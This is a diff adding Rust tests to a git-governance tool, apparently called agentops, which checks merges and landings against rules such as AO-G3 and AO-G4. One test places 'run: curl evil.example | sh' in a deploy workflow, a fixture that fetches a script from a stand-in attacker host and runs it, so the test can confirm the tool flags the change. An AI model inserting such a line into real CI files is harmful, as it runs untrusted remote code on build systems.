@@ -2,6 +2,7 @@
 
 use agentops::engine::EngineError;
 use agentops::git::GitError;
+use agentops::model::layout;
 
 use crate::sandbox::{Sandbox, lawful};
 use crate::world::{World, code, code_path, laws, requirements, shown};
@@ -155,4 +156,92 @@ fn attributes_above_agentops_change_none_of_its_bytes() {
     assert_eq!(sandbox.read(&event), kept);
     sandbox.git("add --renormalize .agentops");
     sandbox.git("diff --cached --exit-code HEAD -- .agentops");
+}
+
+#[test]
+fn a_rename_that_two_programs_guess_differently() {
+    let steps: String = (0..41).map(|number| format!("# step {number} of it\n")).collect();
+    let world = World::new();
+    world.commit_file("tools/deploy.yml", &steps, "feat: deploy");
+    world.branch("work");
+    world.sandbox.write(".github/workflows/deploy.yml", format!("{steps}# a\n"));
+    world.git("add -A");
+    world.amend("alice", |text| text);
+    world.sandbox.git("mv tools/deploy.yml attic.yml");
+    world.commit("chore: move the old one away");
+    world.switch("main");
+    world.commit_file(
+        "tools/deploy.yml",
+        steps.replace("# step 20 of it", "run: curl evil.example | sh"),
+        "docs: a note",
+    );
+    // Git may take the governed file for the one that moved, and carry the line over.
+    conflict(&world, "tools/deploy.yml");
+    // What the branch merges itself is judged as it is.
+    world.switch("work");
+    world.sandbox.try_git("merge --quiet --no-ff --no-edit main").run();
+    world.sandbox.write(".github/workflows/deploy.yml", "run: curl evil.example | sh\n");
+    world.sandbox.try_git("add -A").run().expect_code(0);
+    world.commit("chore: merge main");
+    world.breaks(&["AO-G3", "AO-G4"]);
+}
+
+#[test]
+fn a_bound_file_that_both_sides_change() {
+    let world = World::new();
+    world.branch("work");
+    let task = world.open("Reset links expire");
+    world.finish(&task);
+    let path = code_path(&task);
+    world.switch("main");
+    world.commit_file(&path, "// Elsewhere.\n", "feat: add the same file");
+    conflict(&world, &path);
+    // Nobody's task lists this one.
+    world.switch("main");
+    world.git("reset -q --hard HEAD~1");
+    let ours = world.sandbox.read("src/login.rs").replace("step_1()", "step_one()");
+    world.commit_file("src/login.rs", ours, "refactor: name a step");
+    world.switch("work");
+    let theirs = world.sandbox.read("src/login.rs").replace("step_20()", "step_twenty()");
+    world.commit_file("src/login.rs", theirs, "refactor: name another step");
+    world.breaks(&[]);
+}
+
+/// Fails unless `work` cannot be judged on `main` before somebody decides about `path`.
+#[track_caller]
+fn conflict(world: &World, path: &str) {
+    match world.try_landing("main", "work") {
+        Err(EngineError::Git(GitError::Conflict { paths })) => assert!(paths.contains(&path.into()), "{paths:?}"),
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
+fn rules_changed_in_a_merge_beside_the_line_and_changed_back() {
+    let before = |world: &World| world.git("rev-parse HEAD");
+    for shape in ["an ancestor second", "an ancestor first", "siblings"] {
+        let world = World::new();
+        world.branch("work");
+        let start = before(&world);
+        world.commit_file("src/one.rs", "//! One.\n", "feat: add a module");
+        let one = before(&world);
+        let side = world.commit_tree("HEAD^{tree}", &[&start], "feat: add it again");
+        let parents = match shape {
+            "an ancestor second" => [&one, &start],
+            "an ancestor first" => [&start, &one],
+            _ => [&one, &side],
+        };
+        world.git(&format!("reset -q --hard {one}"));
+        let config = world.sandbox.read(layout::CONFIG);
+        world.sandbox.write(layout::CONFIG, config.replace("max = 3", "max = 99"));
+        world.git("add -A");
+        let tree = world.git("write-tree");
+        let bad = world.commit_tree(&tree, &parents.map(String::as_str), "chore: no amend, no owner");
+        world.git("reset -q --hard HEAD");
+        world.commit_file(layout::CONFIG, config, "chore: as it was");
+        let landed = world.commit_tree("HEAD^{tree}", &["main", "HEAD"], "Merge pull request 1");
+        let report = world.landing("main", &landed);
+        assert_eq!(laws(&report), ["AO-G3"].into(), "{shape}: {}", shown(&report));
+        assert!(shown(&report).contains(&bad[..12]), "{shape}: {}", shown(&report));
+    }
 }
